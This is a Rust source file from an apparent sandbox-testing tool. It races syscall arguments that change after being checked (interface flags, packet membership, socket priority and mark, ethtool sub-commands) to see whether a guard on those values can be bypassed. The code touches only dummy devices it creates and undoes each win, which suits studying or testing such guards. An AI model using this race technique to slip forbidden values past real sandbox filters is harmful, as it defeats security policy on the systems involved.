//! What is raced on: a call, the word that decides, and how a win shows.

use std::io;
use std::os::fd::{AsFd as _, AsRawFd as _, OwnedFd};

use super::Try;
use super::arena::Arena;
use crate::attack::abi::{Number, call};
use crate::attack::ethtool::{self, ETHTOOL_GTXCSUM, ETHTOOL_SCHANNELS, ETHTOOL_STXCSUM};
use crate::attack::ioctl::{self, Family};
use crate::attack::packet::{MREQ_LEN, PACKET_DROP_MEMBERSHIP, packet_socket};
use crate::attack::sockopt::{set_bytes, udp_socket};
use crate::attack::{Abi, IFF_PROMISC, IFF_UP, SocketOption, index_of};
use crate::device::FlagsFile;
use crate::make;

const SIOCSIFFLAGS: usize = 0x8914;
const SIOCETHTOOL: usize = 0x8946;
const PACKET_ADD_MEMBERSHIP: usize = 1;
const PACKET_MR_MULTICAST: u32 = 0;
const PACKET_MR_PROMISC: u32 = 1;
/// `mr_alen`, which shares the word with `mr_type`: that of an Ethernet address.
const ETHERNET: u32 = 6 << 16;

/// A racy call.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Target {
    /// `ifr_flags` of `SIOCSIFFLAGS`: `IFF_PROMISC` comes and goes.
    Flags,
    /// `mr_type` of `PACKET_ADD_MEMBERSHIP`: promiscuous, or one multicast address.
    Membership,
    /// The value of `SO_PRIORITY`: 7 or 5.
    Priority,
    /// The value of `SO_MARK`: 13 or 12, for a guard with a set of values.
    Mark,
    /// The sub-command of `SIOCETHTOOL`: one that a dummy has not, or checksums off.
    Ethtool,
}

impl Target {
    /// All of them.
    pub const ALL: [Self; 5] = [
        Self::Flags,
        Self::Membership,
        Self::Priority,
        Self::Mark,
        Self::Ethtool,
    ];

    /// The name for people.
    pub fn name(self) -> &'static str {
        match self {
            Self::Flags => "SIOCSIFFLAGS",
            Self::Membership => "PACKET_ADD_MEMBERSHIP",
            Self::Priority => "SO_PRIORITY",
            Self::Mark => "SO_MARK",
            Self::Ethtool => "SIOCETHTOOL",
        }
    }

    /// The harmless word, and the other.
    pub fn words(self) -> [u32; 2] {
        match self {
            Self::Flags => [IFF_UP, IFF_UP | IFF_PROMISC],
            Self::Membership => [PACKET_MR_MULTICAST | ETHERNET, PACKET_MR_PROMISC | ETHERNET],
            Self::Priority => [5, 7],
            Self::Mark => [12, 13],
            Self::Ethtool => [ETHTOOL_SCHANNELS, ETHTOOL_STXCSUM],
        }
    }

    /// Whether the struct begins with a device, before the word: there the kernel's
    /// copy can be held up.
    pub fn begins_with_a_device(self) -> bool {
        matches!(self, Self::Flags | Self::Membership)
    }

    fn has_a_device(self) -> bool {
        self.begins_with_a_device() || self == Self::Ethtool
    }

    fn option(self) -> Option<SocketOption> {
        match self {
            Self::Priority => Some(SocketOption::Priority),
            Self::Mark => Some(SocketOption::Mark),
            _ => None,
        }
    }
}

/// One attacker's own device or socket, and the struct that it hands over.
#[derive(Debug)]
pub struct Attacker {
    target: Target,
    device: String,
    index: u32,
    flags: Option<FlagsFile>,
    socket: OwnedFd,
    /// The struct.
    pub arena: Arena,
}

impl Attacker {
    /// Makes what the call is about. Devices end with [`Attacker::remove`].
    pub fn new(target: Target, number: usize) -> io::Result<Self> {
        let device = format!("bypassvictim{number}");
        let (mut index, mut flags) = (0, None);
        if target.has_a_device() {
            make::dummy(&device)?;
            index = index_of(&device)?;
        }
        if target.begins_with_a_device() {
            flags = Some(FlagsFile::open(&device)?);
        }
        let (socket, before) = match target {
            Target::Flags => {
                let request = ioctl::Request::about(&device)?;
                (Family::Inet.socket()?, request.bytes()[..16].to_vec())
            }
            Target::Membership => (packet_socket()?, index.to_ne_bytes().to_vec()),
            Target::Priority | Target::Mark | Target::Ethtool => (udp_socket()?, Vec::new()),
        };
        let arena = Arena::new(&before)?;
        arena.set(target.words()[0]);
        Ok(Self {
            target,
            device,
            index,
            flags,
            socket,
            arena,
        })
    }

    /// Makes the call once, and looks what has come of it.
    pub fn attempt(&mut self) -> io::Result<Try> {
        match self.call() {
            Ok(()) => self.look(),
            Err(error) => match error.raw_os_error() {
                Some(libc::EPERM | libc::EACCES) => Ok(Try::Refused),
                // The harmless word, which got as far as the device.
                Some(libc::EOPNOTSUPP) if self.target == Target::Ethtool => Ok(Try::Passed),
                _ => Err(error),
            },
        }
    }

    fn call(&self) -> io::Result<()> {
        let fd = self.socket.as_raw_fd().cast_unsigned() as usize;
        let address = self.arena.address();
        let option =
            |level: i32, name: usize, len| [fd, level.cast_unsigned() as usize, name, address, len];
        let request = ethtool::request(&self.device, address)?;
        let (number, arguments) = match self.target {
            Target::Ethtool => {
                let request = request.bytes().as_ptr().addr();
                (Number::IOCTL, [fd, SIOCETHTOOL, request, 0, 0])
            }
            Target::Flags => (Number::IOCTL, [fd, SIOCSIFFLAGS, address, 0, 0]),
            Target::Membership => (
                Number::SETSOCKOPT,
                option(libc::SOL_PACKET, PACKET_ADD_MEMBERSHIP, 16),
            ),
            Target::Priority => (
                Number::SETSOCKOPT,
                option(libc::SOL_SOCKET, libc::SO_PRIORITY as usize, 4),
            ),
            Target::Mark => (
                Number::SETSOCKOPT,
                option(libc::SOL_SOCKET, libc::SO_MARK as usize, 4),
            ),
        };
        // SAFETY: the arena is longer than each of these structs.
        unsafe { call(Abi::Native, number, arguments) }.map(drop)
    }

    /// Looks from outside, and undoes what a win has done.
    fn look(&mut self) -> io::Result<Try> {
        let won = match &self.flags {
            Some(flags) => flags.read()? & IFF_PROMISC != 0,
            None if self.target == Target::Ethtool => {
                ethtool::make(&self.device, ETHTOOL_GTXCSUM, 0)? == 0
            }
            None => self.option_is_the_other()?,
        };
        match self.target {
            Target::Flags if won => ioctl::set_flags(Family::Inet, &self.device, IFF_UP)?,
            Target::Membership => self.leave(won)?,
            Target::Priority | Target::Mark if won => self.set_option_back()?,
            _ => {}
        }
        Ok(if won { Try::Won } else { Try::Passed })
    }

    /// Drops the membership. Closing the socket would, too, but waits until no
    /// processor uses it any more (`packet_release`).
    fn leave(&self, won: bool) -> io::Result<()> {
        let word = self.target.words()[usize::from(won)];
        let mut request = [0; MREQ_LEN];
        request[..4].copy_from_slice(&self.index.to_ne_bytes());
        request[4..8].copy_from_slice(&word.to_ne_bytes());
        let socket = self.socket.as_fd();
        set_bytes(socket, libc::SOL_PACKET, PACKET_DROP_MEMBERSHIP, &request)
    }

    fn option_is_the_other(&self) -> io::Result<bool> {
        let other = self.target.words()[1].cast_signed();
        let Some(option) = self.target.option() else {
            return Ok(false);
        };
        Ok(option.get(self.socket.as_fd())? == other)
    }

    fn set_option_back(&self) -> io::Result<()> {
        let harmless = self.target.words()[0].cast_signed();
        let Some(option) = self.target.option() else {
            return Ok(());
        };
        option.set(self.socket.as_fd(), harmless)
    }

    /// Removes its device.
    pub fn remove(&self) -> io::Result<()> {
        if !self.target.has_a_device() {
            return Ok(());
        }
        crate::attack::link::delete(&self.device)
    }
}
